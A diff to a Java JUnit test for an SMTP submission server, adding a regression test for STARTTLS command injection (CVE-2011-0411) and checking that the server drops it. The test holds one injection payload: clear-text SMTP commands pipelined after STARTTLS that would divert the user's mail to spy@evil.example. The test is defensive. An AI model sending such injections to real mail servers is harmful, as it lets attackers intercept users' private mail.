@@ -4,6 +4,7 @@ import static dev.masq.testing.Messages.bytes;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import dev.masq.mail.reply.OutboundFixture;
+import dev.masq.testing.DownstreamSmtpServer.Received;
 import dev.masq.testing.SmtpClient;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Path;
@@ -18,7 +19,7 @@ import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 
-/** AUTH on the submission port: never a prompt in clear, each mechanism announced once, malformed answers refused plainly. */
+/** AUTH and STARTTLS on the submission port: nothing sent in clear with STARTTLS is run inside TLS, never a prompt in clear, each mechanism announced once, malformed answers refused plainly. */
 class SubmissionAuthTest {
     @TempDir
     Path dir;
@@ -85,6 +86,25 @@ class SubmissionAuthTest {
             smtp.expect(334, smtp.command("AUTH PLAIN"));
             smtp.expect(235, smtp.command(base64("\0" + OutboundFixture.INBOX + "\0" + password.password())));
         }
+    }
+
+    /** STARTTLS command injection (CVE-2011-0411): an attacker's clear-text transaction never joins the user's. */
+    @Test
+    void commandsSentInClearWithStartTlsAreDroppedAndTheUsersMessageGoesOnlyWhereTheUserSentIt() {
+        try (SmtpClient smtp = plain()) {
+            String login = base64("\0" + OutboundFixture.INBOX + "\0" + password.password());
+            smtp.write("STARTTLS\r\nEHLO evil.example\r\nAUTH PLAIN " + login + "\r\n"
+                    + "MAIL FROM:<" + OutboundFixture.INBOX + ">\r\nRCPT TO:<spy@evil.example>\r\n");
+            smtp.expect(220, smtp.reply());
+            smtp.handshake(tls -> { });
+            assertThat(smtp.expect(250, smtp.command("EHLO client.example")).text()).contains("AUTH LOGIN PLAIN");
+            smtp.expect(235, smtp.command("AUTH PLAIN " + login));
+            assertThat(smtp.send(OutboundFixture.INBOX, List.of("sales@shop.example"),
+                    bytes("From: shop@mask.test\r\nTo: sales@shop.example\r\nSubject: private\r\n\r\nHello.\r\n")).code())
+                    .isEqualTo(250);
+        }
+        Received out = f.awaitReceived(1).getFirst();
+        assertThat(out.recipients()).containsExactly("sales@shop.example");
     }
 
     private SmtpClient plain() {
